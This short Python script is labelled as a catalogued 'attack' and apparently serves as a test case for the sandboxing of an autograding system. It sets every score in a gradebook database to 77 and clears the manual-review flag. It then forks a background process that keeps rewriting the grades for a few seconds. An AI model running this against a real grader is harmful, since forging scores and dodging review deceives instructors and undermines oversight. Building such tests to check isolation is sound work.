# /// attack
# catalogue = "forging: daemon writes the gradebook"
# layers = ["view", "landlock", "uid"]
# aim = "neighbour"
# ///
# Gives everybody full marks in the gradebook, from a process that stays for a while.

# %%
import os
import sqlite3
import time


def give_points():
    with sqlite3.connect(f"file:{TARGET['gradebook']}?mode=rw", uri=True, timeout=1) as database:
        database.execute("update grade set auto_score = 77, needs_manual_grade = 0")


try:
    give_points()
finally:
    if os.fork() == 0:
        for _ in range(50):
            time.sleep(0.1)
            try:
                give_points()
            except Exception:
                pass
        os._exit(0)
